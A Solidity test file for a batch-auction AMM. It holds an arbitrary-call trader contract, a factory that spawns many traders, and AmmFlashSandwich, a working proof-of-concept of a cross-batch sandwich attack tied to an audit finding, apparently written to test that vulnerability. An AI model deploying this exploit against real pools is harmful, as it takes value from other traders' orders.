// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

/// @title AmmTestTrader
/// @author hardhat-parallel
/// @notice TEST CONTRACT. A throw-away account for tests that need hundreds of committers: it
///         runs whatever call it is given, from its own address. Anyone can make it call
///         anything: never deploy it anywhere that matters, never give it real tokens.
/// @dev No storage.
contract AmmTestTrader {
    /// @notice Calls `target` with `data` from this contract; bubbles up a revert.
    /// @param target The contract to call.
    /// @param data The calldata.
    /// @return ret The return data.
    function run(address target, bytes calldata data) external returns (bytes memory ret) {
        bool ok;
        (ok, ret) = target.call(data);
        if (!ok) {
            assembly ("memory-safe") {
                revert(add(ret, 0x20), mload(ret))
            }
        }
    }
}

/// @title AmmTraderFactory
/// @author hardhat-parallel
/// @notice TEST CONTRACT. Creates {AmmTestTrader}s (CREATE2, so tests can choose their addresses
///         and hence their shards) and makes many of them act in one transaction: fund
///         themselves from an open-faucet token, approve a pool, commit, claim. Never deploy it
///         anywhere that matters.
/// @dev No storage.
contract AmmTraderFactory {
    /// @notice The creation code hash of {AmmTestTrader} (for off-chain CREATE2 addresses).
    /// @return The keccak-256 of the creation code.
    function traderCodeHash() external pure returns (bytes32) {
        return keccak256(type(AmmTestTrader).creationCode);
    }

    /// @notice Creates one trader per salt and, for each, mints `amount` of each token in
    ///         `tokens` to it (`mint(address,uint256)`, an open faucet), approves `pool` for
    ///         them and has it call `pool` with `commit`.
    /// @param salts The CREATE2 salts.
    /// @param tokens The tokens to mint and approve.
    /// @param amount The amount of each token.
    /// @param pool The pool.
    /// @param commit The calldata each trader sends to `pool`.
    /// @return traders The traders' addresses.
    function spawn(bytes32[] calldata salts, address[] calldata tokens, uint256 amount, address pool, bytes calldata commit)
        external
        returns (address[] memory traders)
    {
        traders = new address[](salts.length);
        for (uint256 i; i < salts.length; ++i) {
            AmmTestTrader t = new AmmTestTrader{salt: salts[i]}();
            traders[i] = address(t);
            for (uint256 k; k < tokens.length; ++k) {
                (bool ok,) = tokens[k].call(abi.encodeWithSignature("mint(address,uint256)", address(t), amount));
                require(ok, "mint");
                t.run(tokens[k], abi.encodeWithSignature("approve(address,uint256)", pool, type(uint256).max));
            }
            t.run(pool, commit);
        }
    }

    /// @notice Has each of `traders` call `target` with `data`; reverts if any call does.
    /// @param traders The traders.
    /// @param target The contract they call.
    /// @param data The calldata.
    function runAll(address[] calldata traders, address target, bytes calldata data) external {
        for (uint256 i; i < traders.length; ++i) {
            AmmTestTrader(traders[i]).run(target, data);
        }
    }
}

/// @notice The part of {BatchAuctionAMM} the flash attacker calls.
interface IAmmBatchPool {
    function currentBatch() external view returns (uint256);
    function commitSwap(bool zeroForOne, uint256 amountIn, uint256 minAmountOut) external returns (uint256 batch);
    function settle(uint256 batch, address[] calldata swappers, address[] calldata providers) external;
    function claim() external returns (uint256 amount);
}

/// @title AmmFlashSandwich
/// @author hardhat-parallel
/// @notice TEST CONTRACT. The cross-batch sandwich (audit finding 4) inside ONE transaction, as a
///         flash-style attacker would run it on a pool without a minimum batch duration: join
///         the victim's batch in its direction, settle it, claim, sell everything back in the
///         next batch, settle that one too, claim. Never deploy it anywhere that matters.
/// @dev No storage. The tokens must be funded to this contract before {attack}.
contract AmmFlashSandwich {
    /// @notice Runs the sandwich against `victim`'s pending order (it must be the batch's only other request).
    /// @param pool The pool.
    /// @param token0 The pool's token0 (sold first).
    /// @param token1 The pool's token1.
    /// @param victim The account whose order is pending in the open batch.
    /// @param amountIn The token0 the attack sells.
    /// @return got0 The token0 this contract holds at the end.
    /// @return got1 The token1 this contract holds at the end.
    function attack(IAmmBatchPool pool, address token0, address token1, address victim, uint256 amountIn)
        external
        returns (uint256 got0, uint256 got1)
    {
        _approve(token0, address(pool));
        _approve(token1, address(pool));
        uint256 batch = pool.currentBatch();
        pool.commitSwap(true, amountIn, 0);
        address[] memory both = new address[](2);
        (both[0], both[1]) = victim < address(this) ? (victim, address(this)) : (address(this), victim);
        pool.settle(batch, both, new address[](0));
        pool.claim();
        // Filled: sell back the token1 received (refunded: nothing to sell back).
        uint256 out = _balanceOf(token1);
        address[] memory alone = new address[](1);
        alone[0] = address(this);
        if (out != 0) {
            pool.commitSwap(false, out, 0);
            pool.settle(batch + 1, alone, new address[](0));
            pool.claim();
        }
        got0 = _balanceOf(token0);
        got1 = _balanceOf(token1);
    }

    /// @dev Approves `spender` for all of `token`.
    function _approve(address token, address spender) private {
        (bool ok,) = token.call(abi.encodeWithSignature("approve(address,uint256)", spender, type(uint256).max));
        require(ok, "approve");
    }

    /// @dev This contract's balance of `token`.
    function _balanceOf(address token) private view returns (uint256) {
        (bool ok, bytes memory ret) = token.staticcall(abi.encodeWithSignature("balanceOf(address)", address(this)));
        require(ok && ret.length == 32, "balanceOf");
        return abi.decode(ret, (uint256));
    }
}
